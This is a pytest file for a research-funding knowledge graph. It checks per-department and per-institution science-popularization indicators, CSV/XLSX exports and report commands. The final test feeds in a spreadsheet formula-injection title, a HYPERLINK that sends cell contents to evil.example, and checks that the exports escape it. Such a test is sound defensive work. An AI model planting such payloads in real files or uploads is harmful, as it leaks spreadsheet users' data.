"""Department and institution indicators, their exports, and the report commands, on the hand-written
world of tests/data/reports (expected values counted by hand from its README table)."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook

from kg import derive, export, indicators
from kg.config import Settings
from kg.nquads import term_nt
from kg.store import KnowledgeGraph
from ingest.pipeline import ingest_paths
from reports_world import fresh, load, staff, world  # noqa: F401

PKU, LZU = "北京大学", "兰州大学"


def cells(report, *names: str) -> dict[tuple, tuple]:
    """(label, year) -> the named columns."""
    index = [report.columns.index(n) for n in names]
    return {(row[1], row[2]): tuple(row[i] for i in index) for row in report.rows}


COUNTS = ("projects", "projects_with_results", "projects_popularized", "coverage_pct", "works")
PEOPLE_AND_REACH = ("researchers_engaged", "views", "attendance", "awards", "talent_pool_members")


def test_the_year_end_assessment_per_department_is_a_time_series_by_approval_year(staff):
    report = indicators.indicator_report(staff, by="department")
    assert cells(report, *COUNTS) == {
        ("数学物理科学部", 2019): (1, 1, 0, 0.0, 0),        # 11930005: W3 is pending, so no work counts
        ("生命科学部", 2022): (3, 2, 1, 50.0, 1),           # 32270002 popularized by W1; 32270006 has no results
        ("信息科学部", 2019): (2, 1, 1, 100.0, 1),          # 61970003 (W2 on its output O4); 61921004 no results
    }
    assert cells(report, *PEOPLE_AND_REACH) == {
        ("数学物理科学部", 2019): (1, 0, 0, 0, 1),     # 张明 created W4 (approved) and is in the talent pool
        ("生命科学部", 2022): (2, 1000, 0, 1, 1),      # 张明 and 王芳; W1: 1000 views, 1 award
        ("信息科学部", 2019): (1, 0, 200, 0, 1),       # 赵强; W2: 200 attendees
    }
    assert cells(report, "works_video", "works_lecture", "works_article")[("生命科学部", 2022)] == (1, 0, 0)
    assert cells(report, "works_video", "works_lecture", "works_article")[("信息科学部", 2019)] == (0, 1, 0)


def test_supporting_institutions_get_the_same_indicators_and_totals_over_all_years(staff):
    report = indicators.indicator_report(staff, by="institution")
    assert cells(report, *COUNTS, *PEOPLE_AND_REACH) == {
        (PKU, 2019): (1, 1, 0, 0.0, 0, 1, 0, 0, 0, 1),
        (PKU, 2022): (2, 2, 1, 50.0, 1, 2, 1000, 0, 1, 1),
        (LZU, 2019): (2, 1, 1, 100.0, 1, 1, 0, 200, 0, 1),
        (LZU, 2022): (1, 0, 0, None, 0, 0, 0, 0, 0, 0),   # only the pending 32270006: nothing to cover
    }
    totals = report.parts[0]
    assert totals.key == "indicators-totals"
    # 张明 leads projects of 2019 and 2022 at 北京大学: he counts once over all years.
    assert cells(totals, *COUNTS, *PEOPLE_AND_REACH) == {
        (PKU, None): (3, 3, 1, 33.3, 1, 2, 1000, 0, 1, 1),
        (LZU, None): (3, 1, 1, 100.0, 1, 1, 0, 200, 0, 1),
    }


def test_one_year_gives_one_row_per_group(staff):
    report = indicators.indicator_report(staff, by="department", year=2022)
    assert [(row[0], row[2]) for row in report.rows] == [("C", 2022)]
    assert report.parts == []


def test_time_series_for_charts(staff):
    report = indicators.indicator_report(staff, by="institution")
    series = indicators.time_series(report, "projects")
    assert sorted(series.values()) == [[(2019, 1), (2022, 2)], [(2019, 2), (2022, 1)]]


def test_people_are_counted_by_identity_once_the_linking_step_has_run(tmp_path):
    """赵强 is also a member of 32230001 under a name-only mention; once the links graph says that
    mention is the talent-pool researcher 100003, 生命科学部 2022 counts him as engaged and in the pool."""
    with KnowledgeGraph(Settings(data_dir=load(tmp_path / "scipop-data"))) as kg:
        before = cells(indicators.indicator_report(kg, by="department", year=2022), *PEOPLE_AND_REACH)
        assert before[("生命科学部", 2022)] == (2, 1000, 0, 1, 1)
        mention = kg.minter.person_by_name("赵强", PKU)
        canonical = kg.minter.person("nsfc", "100003")
        with kg.write():
            kg.update(f"INSERT DATA {{ GRAPH {term_nt(kg.minter.links_graph())} "
                      f"{{ {term_nt(mention)} <http://www.w3.org/2002/07/owl#sameAs> {term_nt(canonical)} }} }}")
            derive.refresh(kg)
        after = cells(indicators.indicator_report(kg, by="department", year=2022), *PEOPLE_AND_REACH)
        assert after[("生命科学部", 2022)] == (3, 1000, 0, 1, 2)


# ---------------------------------------------------------------------------- exports
def test_csv_export_is_one_table_with_a_header(staff):
    report = indicators.indicator_report(staff, by="department", year=2019)
    text = export.to_csv(report)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == report.columns
    assert rows[1][:8] == ["A", "数学物理科学部", "2019", "1", "1", "0", "0", "0"]
    assert rows[2][:8] == ["F", "信息科学部", "2019", "2", "1", "1", "100", "1"]
    assert len(rows) == 3


def test_xlsx_export_has_a_sheet_per_table_and_the_notes(staff, tmp_path):
    report = indicators.indicator_report(staff, by="institution")
    path = export.to_xlsx(report, tmp_path / "indicators.xlsx")
    book = load_workbook(path, read_only=True)
    assert book.sheetnames == ["indicators", "indicators-totals", "notes"]
    sheet = [list(row) for row in book["indicators"].iter_rows(values_only=True)]
    assert sheet[0] == report.columns
    by_key = {(row[1], row[2]): row for row in sheet[1:]}
    assert by_key[PKU, 2022][3:8] == [2, 2, 1, 50, 1]
    assert by_key[LZU, 2022][6] is None  # no coverage without results: an empty cell, not 0
    totals = [list(row) for row in book["indicators-totals"].iter_rows(values_only=True)]
    assert {row[1]: row[3] for row in totals[1:]} == {PKU: 3, LZU: 3}
    notes = [list(row) for row in book["notes"].iter_rows(values_only=True)]
    assert any("docs/indicators.md" in (row[2] or "") for row in notes[1:])
    book.close()


def test_a_part_can_be_chosen_and_an_unknown_one_is_refused(staff):
    report = indicators.indicator_report(staff, by="department")
    assert export.select_table(report, "indicators-totals").key == "indicators-totals"
    with pytest.raises(export.ExportError) as error:
        export.select_table(report, "nope")
    assert "indicators-totals" in error.value.hint


# ---------------------------------------------------------------------------- the command line
def cli(runner, data_dir: Path, *args: str):
    from cli import main

    return runner.invoke(main, ["--data-dir", str(data_dir), "--quiet", *args])


def test_report_commands_print_csv_and_json(runner, world):
    result = cli(runner, world, "report", "indicators", "--by", "institution", "--year", "2019", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))
    assert sorted((r[1], r[2], r[3]) for r in rows[1:]) == sorted([(PKU, "2019", "1"), (LZU, "2019", "2")])
    result = cli(runner, world, "report", "compliance", "--format", "json")
    assert result.exit_code == 0, result.output
    body = json.loads(result.output)
    assert [part["key"] for part in body["parts"]] == ["compliance-obliged", "compliance-encouraged"]
    result = cli(runner, world, "report", "compliance", "--format", "csv", "--table", "compliance-obliged", "--lang", "en")
    assert sorted(r[1] for r in list(csv.reader(io.StringIO(result.output)))[1:]) == ["32230001", "61921004"]


def test_report_gaps_drill_down_and_xlsx_file(runner, world, tmp_path):
    out = tmp_path / "gaps.xlsx"
    result = cli(runner, world, "report", "gaps", "--by", "department", "--drill", "F", "--format", "xlsx", "--output", str(out))
    assert result.exit_code == 0, result.output
    book = load_workbook(out, read_only=True)
    rows = [list(r) for r in book["gap-items"].iter_rows(values_only=True)]
    assert rows[0][:3] == ["kind", "iri", "id"] and [r[2] for r in rows[1:]] == ["10.1109/rep.2022.0005"]
    book.close()
    table = cli(runner, world, "report", "gaps", "--by", "tier")
    assert table.exit_code == 0 and "应当开展科普" in table.output and "注：" in table.output
    assert table.output.splitlines()[1].split()[:3] == ["分组", "名称", "项目数"]   # headings in --lang zh (default)
    english = cli(runner, world, "report", "gaps", "--by", "tier", "--lang", "en")
    assert english.output.splitlines()[1].startswith("Group") and "note: " in english.output


def test_report_mistakes_exit_2_with_one_line_and_a_fix(runner, world):
    result = cli(runner, world, "report", "indicators", "--format", "xlsx")
    assert result.exit_code == 2
    assert "needs a file name" in result.output and "--output" in result.output
    result = cli(runner, world, "report", "gaps", "--drill", "Q")
    assert result.exit_code == 2 and "is not a known department" in result.output
    result = cli(runner, world, "report", "indicators", "--by", "type")
    assert result.exit_code == 2


def test_record_text_that_looks_like_a_formula_stays_text_in_csv_and_xlsx(fresh, tmp_path):
    """Found by review: titles and institution names come from third-party files, and a
    spreadsheet runs a cell starting with = + - @ as a formula (openpyxl even stores such a
    string as one). The reports are public downloads."""
    from kg import reports

    title = '=HYPERLINK("http://evil.example/?d="&A1,"查看")'
    rows = tmp_path / "dailycafi_formula.csv"
    rows.write_text(
        "index,approveText,title,searchYear,searchFund,searchCode,codeText,fundTypeText,personText,money,"
        "approveYear,endYear,organization,keywords\n"
        f'"1","91960999","{title.replace(chr(34), chr(34) * 2)}","2022","重大研究计划","A0101","A0101",'
        '"重大研究计划","王芳","300.0","2019","2022","@SUM(1+1)大学","公式"\n', encoding="utf-8")
    ingest_paths(fresh, [rows])
    report = reports.compliance_report(fresh, by="institution")
    assert any(title in map(str, row) for table in report.all_tables() for row in table.rows)
    cells = [cell for table in report.all_tables() for row in csv.reader(io.StringIO(export.to_csv(table)))
             for cell in row]
    assert "'" + title in cells and "'@SUM(1+1)大学" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
    assert "1" in cells or any(cell.isdigit() for cell in cells)   # counts stay numbers
    book = load_workbook(export.to_xlsx(report, tmp_path / "compliance.xlsx"))
    written = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in written if cell.data_type == "f"]
    assert title in [cell.value for cell in written]          # shown exactly as the record has it
    assert any(isinstance(cell.value, int) for cell in written)
